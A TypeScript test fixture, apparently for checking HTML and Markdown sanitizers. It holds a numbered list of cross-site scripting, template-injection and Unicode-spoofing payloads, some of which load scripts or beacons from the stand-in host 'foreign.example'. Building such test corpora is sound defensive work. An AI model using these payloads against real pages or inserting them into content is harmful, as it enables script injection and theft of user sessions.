/** A host that nobody owns: whatever asks for it gives itself away. */
export const foreignHost = 'foreign.example';

/** Texts that become more than text where a page is careless. `RUN` is the call that gives them away. */
const templates = [
  // scripts and handlers
  '<script>RUN</script>',
  '"><script>RUN</script>',
  '</title><script>RUN</script>',
  '</textarea><script>RUN</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<SCRIPT SRC=//foreign.example/a.js></SCRIPT>',
  '<img src=x onerror=RUN>',
  '<img src=x onerror="RUN" alt=\'a\'>',
  '"><img src=x onerror=RUN>',
  "'><img src=x onerror=RUN>",
  '`"\'><img src=x onerror=RUN>',
  '<img/src=`x`onerror=RUN>',
  '<IMG """><SCRIPT>RUN</SCRIPT>">',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:RUN"><text x=9 y=9>a</text></a></svg>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>',
  '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<details open ontoggle=RUN>a</details>',
  '<input autofocus onfocus=RUN>',
  '<video><source onerror=RUN></video>',
  '<audio src=x onerror=RUN>',
  '<body onload=RUN>',
  '<marquee onstart=RUN>a</marquee>',
  '<div style="animation:a 1s" onanimationstart=RUN>a</div>',
  '<p onpointerover=RUN style="position:fixed;inset:0">a</p>',
  '<template><img src=x onerror=RUN></template>',
  '<select><noembed></select><script>RUN</script>',
  // frames, forms, documents
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<embed src="data:text/html,<script>RUN</script>">',
  '<form action="https://foreign.example/f"><button autofocus>a</button></form>',
  '<button form=x formaction="javascript:RUN">a</button>',
  '<base href="https://foreign.example/">',
  '<meta http-equiv="refresh" content="0;url=https://foreign.example/r">',
  '<link rel=stylesheet href="https://foreign.example/a.css">',
  '<link rel=prefetch href="https://foreign.example/p">',
  '<style>@import "https://foreign.example/i.css";</style>',
  '<style>*{background:url(https://foreign.example/b)}</style>',
  '<a href="javascript:RUN">a</a>',
  '<a href="java&#115;cript:RUN">a</a>',
  '<a href="https://foreign.example" ping="https://foreign.example/ping">a</a>',
  // markdown
  '[a](javascript:RUN)',
  '[a](JaVaScRiPt:RUN "title")',
  '[a](java&Tab;script:RUN)',
  '[a](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)',
  '[a](vbscript:RUN)',
  '![a](https://foreign.example/i.png)',
  '![a](https://foreign.example/i.png"onerror="RUN)',
  '![a](data:image/svg+xml,<svg/onload=RUN>)',
  '![a][r]\n\n[r]: https://foreign.example/r.png "onload=RUN"',
  '[a]: javascript:RUN\n\n[a]',
  '<javascript:RUN>',
  '<https://foreign.example/auto><img src=x onerror=RUN>',
  '`<img src=x onerror=RUN>`',
  '```html\n<script>RUN</script>\n```',
  '<!--><img src=x onerror=RUN>-->',
  '<!-- a --!><script>RUN</script>',
  '&lt;script&gt;RUN&lt;/script&gt;&#60;img src=x onerror=RUN&#62;',
  '[^1]: <img src=x onerror=RUN>\n\na[^1]',
  '| a |\n| - |\n| <img src=x onerror=RUN> |',
  '- [ ] <input autofocus onfocus=RUN>',
  // templates and formats
  '{{constructor.constructor("RUN")()}}',
  `\${RUN}`,
  '#{RUN}<%= RUN %>',
  '__proto__',
  ');RUN//',
  "';RUN//",
  '</script><script>RUN</script>',
  'x;background:url(https://foreign.example/c);color:red',
  'url("javascript:RUN")',
  // characters that hide or turn others
  'invoice\u202Egpj.exe',
  'pay\u200Bpal \u2066admin\u2069\u200F',
  '\uFEFF<img src=x onerror=RUN>\u00AD',
  '\u2028<script>RUN</script>\u2029',
  '\uFF1Cscript\uFF1ERUN\uFF1C/script\uFF1E',
  '\u001B[31m\u001B]8;;https://foreign.example\u0007a\u001B]8;;\u0007',
];

/** Each by its number: what runs says by it which one it was. */
export const payloads: readonly string[] = templates.map((template, number) =>
  template.replaceAll('RUN', `__ran(${number})`),
);

/** The payloads in groups of `size`. */
export function inGroups(size: number): string[][] {
  return payloads.flatMap((_, index) =>
    index % size === 0 ? [payloads.slice(index, index + size)] : [],
  );
}
